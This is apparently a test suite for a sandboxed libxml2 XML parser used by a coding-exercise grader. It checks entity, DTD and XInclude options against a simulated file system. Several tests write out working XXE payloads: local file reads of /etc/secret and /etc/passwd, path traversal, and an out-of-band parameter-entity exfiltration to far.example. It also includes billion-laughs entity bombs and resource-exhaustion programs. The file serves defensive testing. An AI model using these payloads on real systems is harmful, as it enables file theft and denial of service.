import assert from 'node:assert/strict';
import { before, test } from 'node:test';
import fc from 'fast-check';
import { openFilesWorld } from '../../../sandbox/src/worlds/files.ts';
import { loadLibxml2 } from '../../../sandbox/src/worlds/libxml2.ts';
import type { HostFunction } from '../../../sandbox/src/worlds/world.ts';
import { openXmlWorld, type XmlWorld } from '../../../sandbox/src/worlds/xml.ts';
import { graderFor, makeExercise, verdictOn } from '../probe-exercise.ts';

before(loadLibxml2);

interface Parsed {
  name: string;
  attributes: Record<string, string>;
  children: Parsed[];
  text: string;
}

function open(others?: Parameters<typeof openXmlWorld>[0]): {
  xml: XmlWorld;
  parse: (document: unknown, options?: unknown) => Parsed;
} {
  const { handle, modules } = openXmlWorld(others);
  const parseXml: HostFunction = modules['ounce:xml']!.functions['parseXml']!;
  return { xml: handle, parse: (...values) => parseXml(...values) as Parsed };
}

const entity = (definition: string): string => `<!DOCTYPE a [<!ENTITY x ${definition}>]><a>&x;</a>`;

test('parseXml() gives elements, attributes and texts', () => {
  const { parse } = open();
  const document = `<?xml version="1.0"?><!-- c --><a b="1" x:c="&lt;" xmlns:x="urn:x">one<x:d/>&amp;<?p i?><![CDATA[<e>]]></a>`;
  assert.deepEqual(parse(document), {
    name: 'a',
    attributes: { b: '1', 'x:c': '<' },
    children: [{ name: 'x:d', attributes: {}, children: [], text: '' }],
    text: 'one&<e>',
  });
});

test('parseXml() reads texts as they are and bytes as they say', () => {
  const { parse } = open();
  assert.equal(parse('<?xml version="1.0" encoding="ISO-8859-1"?><a>ä李</a>').text, 'ä李');
  assert.equal(parse(Buffer.from('<?xml version="1.0" encoding="ISO-8859-1"?><a>ä</a>', 'latin1')).text, 'ä');
  assert.equal(parse(Buffer.from('\uFEFF<a>ä</a>', 'utf16le')).text, 'ä');
});

test('parseXml() opens nothing unless it is told to', () => {
  const { xml, parse } = open();
  xml.serve('/etc/secret', 'secret');
  assert.equal(parse(entity('SYSTEM "file:///etc/secret"')).text, '&x;');
  assert.equal(parse(entity('"inside"')).text, '&x;');
  parse('<!DOCTYPE a SYSTEM "https://site.example/a.dtd"><a/>');
  parse('<a xmlns:x="http://www.w3.org/2001/XInclude"><x:include href="/etc/secret" parse="text"/></a>');
  assert.deepEqual(xml.opened, []);
});

test('parseXml() with noent puts in what entities stand for, from wherever it is', () => {
  const { xml, parse } = open();
  xml.serve('/etc/secret', 'secret');
  xml.serve('/app/beside', 'beside');
  xml.serve('https://site.example/page', 'page');
  assert.equal(parse(entity('"inside"'), { noent: true }).text, 'inside');
  assert.equal(parse(entity('SYSTEM "file:///etc/secret"'), { noent: true }).text, 'secret');
  assert.equal(parse(entity('SYSTEM "/app/../etc/secret"'), { noent: true }).text, 'secret');
  assert.equal(parse(entity('SYSTEM "beside"'), { noent: true }).text, 'beside');
  assert.equal(parse(entity('PUBLIC "x" "https://site.example/page"'), { noent: true }).text, 'page');
  assert.equal(parse(entity('SYSTEM "none"'), { noent: true }).text, '');
  assert.deepEqual(xml.opened, [
    { url: 'file:///etc/secret', found: true },
    { url: 'file:///etc/secret', found: true },
    { url: 'file:///app/beside', found: true },
    { url: 'https://site.example/page', found: true },
    { url: 'file:///app/none', found: false },
  ]);
});

test('a parameter entity carries a file out in an address', () => {
  const { xml, parse } = open();
  xml.serve('/etc/secret', 'a-secret');
  xml.serve('http://far.example/x.dtd', `<!ENTITY % all "<!ENTITY out SYSTEM 'http://far.example/?%file;'>">%all;`);
  const document =
    '<!DOCTYPE a [<!ENTITY % file SYSTEM "/etc/secret"><!ENTITY % far SYSTEM "http://far.example/x.dtd">%far;]><a>&out;</a>';
  parse(document, { noent: true });
  assert.deepEqual(
    xml.opened.map(({ url }) => url),
    ['http://far.example/x.dtd', 'file:///etc/secret', 'http://far.example/?a-secret'],
  );
});

test('nonet keeps the parser from the network and not from files', () => {
  const { xml, parse } = open();
  xml.serve('/etc/secret', 'secret');
  assert.equal(parse(entity('SYSTEM "/etc/secret"'), { noent: true, nonet: true }).text, 'secret');
  assert.throws(
    () => parse('<!DOCTYPE a SYSTEM "http://site.example/a.dtd"><a/>', { dtdload: true, nonet: true }),
    /network/,
  );
  assert.deepEqual(xml.opened, [{ url: 'file:///etc/secret', found: true }]);
});

test('dtdload, dtdattr and dtdvalid do as libxml2 says', () => {
  const { xml, parse } = open();
  xml.serve('/app/a.dtd', '<!ELEMENT a EMPTY><!ATTLIST a b CDATA "given">');
  assert.deepEqual(parse('<!DOCTYPE a SYSTEM "a.dtd"><a/>', { dtdload: true }).attributes, {});
  assert.deepEqual(parse('<!DOCTYPE a SYSTEM "a.dtd"><a/>', { dtdattr: true }).attributes, { b: 'given' });
  assert.throws(() => parse('<!DOCTYPE a SYSTEM "a.dtd"><a><c/></a>', { dtdvalid: true }), /c/);
  assert.equal(xml.opened.length, 3);
});

test('xinclude brings in elements and texts, and what stands in their place', () => {
  const { xml, parse } = open();
  xml.serve('/app/part.xml', '<part>one</part>');
  xml.serve('/etc/secret', 'a secret');
  const include = (inner: string): string => `<a xmlns:x="http://www.w3.org/2001/XInclude">${inner}</a>`;
  const document = include('<x:include href="part.xml"/><x:include parse="text" href="file:///etc/secret"/>');
  assert.deepEqual(parse(document, { xinclude: true }), {
    name: 'a',
    attributes: {},
    children: [{ name: 'part', attributes: {}, children: [], text: 'one' }],
    text: 'a secret',
  });
  const many = include('<x:include parse="text" href="large"/>'.repeat(100));
  xml.serve('/app/large', 'x'.repeat(100_000));
  assert.throws(() => parse(many, { xinclude: true }), /larger than 8 MB/);
  const missing = include('<x:include href="none"><x:fallback>instead</x:fallback></x:include>');
  assert.equal(parse(missing, { xinclude: true }).text, 'instead');
});

test('file addresses lead into the tree of the files world', () => {
  const { handle: files } = openFilesWorld();
  files.write('/etc/passwd', 'root:x:0');
  files.link('/app/alias', '/etc/passwd');
  const { parse } = open({ files });
  for (const address of ['file:///etc/passwd', '/etc/passwd', 'alias', '../etc/./passwd', 'file:///etc/%70asswd'])
    assert.equal(parse(entity(`SYSTEM "${address}"`), { noent: true }).text, 'root:x:0', address);
  for (const address of ['file://far.example/etc/passwd', 'file:///etc%2fpasswd', 'http://etc/passwd'])
    assert.equal(parse(entity(`SYSTEM "${address}"`), { noent: true }).text, '', address);
});

function bomb(levels: number): string {
  const entities = Array.from({ length: levels }, (_, i) => `<!ENTITY x${i + 1} "${`&x${i};`.repeat(10)}">`);
  return `<!DOCTYPE a [<!ENTITY x0 "laughs">${entities.join('')}]><a>&x${levels};</a>`;
}

test('documents tell how much came of how little, and libxml2 stops what grows without end', () => {
  const { xml, parse } = open();
  assert.equal(parse(bomb(4), { noent: true }).text.length, 60_000);
  assert.throws(() => parse(bomb(9), { noent: true, huge: true }), /amplification/);
  assert.equal(parse(bomb(4)).text, '&x4;');
  assert.deepEqual(
    xml.documents.map(({ characters, error }) => ({ characters, failed: error !== undefined })),
    [
      { characters: 60_000, failed: false },
      { characters: 0, failed: true },
      { characters: 0, failed: false },
    ],
  );
});

test('parseXml() says what is wrong with a document or an option', () => {
  const { parse } = open();
  assert.throws(() => parse('<a'), /line 1/);
  assert.throws(() => parse(''), /empty/);
  assert.throws(() => parse('<a>&none;</a>'), /none/);
  assert.throws(() => parse(5), { name: 'TypeError' });
  assert.throws(() => parse('<a/>', { noents: true }), /no option "noents"/);
  assert.throws(() => parse('<a/>', 'noent'), { name: 'TypeError' });
  assert.throws(() => parse(`<a>${'<b/>'.repeat(30_000)}</a>`), /more than 20000 elements/);
});

const options = [
  'noent',
  'dtdload',
  'dtdattr',
  'dtdvalid',
  'nonet',
  'xinclude',
  'huge',
  'recover',
  'noblanks',
  'nocdata',
];
const pieces = [
  '<a>', '</a>', '<b c="', '">', '/>', '&x;', '&#x0;', '%y;', '<!DOCTYPE a [', ']>', '<!ENTITY x ', '<!ENTITY % y ', 'SYSTEM ', '"f"', '"&x;"',
  '<![CDATA[', ']]>', '<!--', '-->', '<?xml version="1.0" encoding="utf-16"?>', 'text', '\0', '\uD800', '<x:include href="f" xmlns:x="http://www.w3.org/2001/XInclude"/>',
]; // prettier-ignore

test('parseXml() gives an element or an error for whatever it gets', () => {
  const { xml, parse } = open();
  xml.serve('/app/f', '<a>&x;<!ENTITY x "y"></a>');
  const documents = fc.oneof(
    fc.array(fc.constantFrom(...pieces), { maxLength: 30 }).map((parts) => parts.join('')),
    fc.string({ unit: 'binary', maxLength: 200 }),
    fc.uint8Array({ maxLength: 200 }),
    fc.anything(),
  );
  fc.assert(
    fc.property(documents, fc.dictionary(fc.constantFrom(...options), fc.boolean()), (document, asked) => {
      try {
        assert.equal(typeof parse(document, asked).name, 'string');
      } catch (error) {
        assert.ok(error instanceof Error && error.message !== '', String(error));
      }
    }),
    { numRuns: 2_000, seed: 11 },
  );
  assert.equal(parse('<a>still</a>').text, 'still');
});

const right = `import { parseXml } from 'ounce:xml';
export const solve = (n: number) => Number(parseXml(\`<a>\${n * 2}</a>\`).text);`;

test('a program that makes the parser run out of memory or time has that fault, and the next one is judged right', async (t) => {
  const grader = await graderFor(t, await makeExercise({ worlds: ['xml', 'files'] }));
  assert.equal((await verdictOn(grader, right)).status, 'passed');
  const including = `import { parseXml } from 'ounce:xml';
import { writeFileSync } from 'node:fs';
export function solve() {
  writeFileSync('/app/f', 'x'.repeat(250_000));
  return parseXml('<a xmlns:x="http://www.w3.org/2001/XInclude">' + '<x:include parse="text" href="f"/>'.repeat(4000) + '</a>', { xinclude: true }).text.length;
}`;
  assert.equal((await verdictOn(grader, including)).fault?.code, 'memory');
  assert.equal((await verdictOn(grader, right)).status, 'passed');
  const looping = `import { parseXml } from 'ounce:xml';
const bomb = ${JSON.stringify(bomb(4))};
export function solve() { for (;;) try { parseXml(bomb, { noent: true }); } catch {} }`;
  assert.equal((await verdictOn(grader, looping)).fault?.code, 'time');
  assert.equal((await verdictOn(grader, right)).status, 'passed');
});

test('a program in a worker with WebAssembly has none itself', async (t) => {
  const grader = await graderFor(t, await makeExercise({ worlds: ['xml'] }));
  const source = `export const solve = (n: number) => ('WebAssembly' in globalThis ? 0 : n * 2);`;
  assert.equal((await verdictOn(grader, source)).status, 'passed');
});
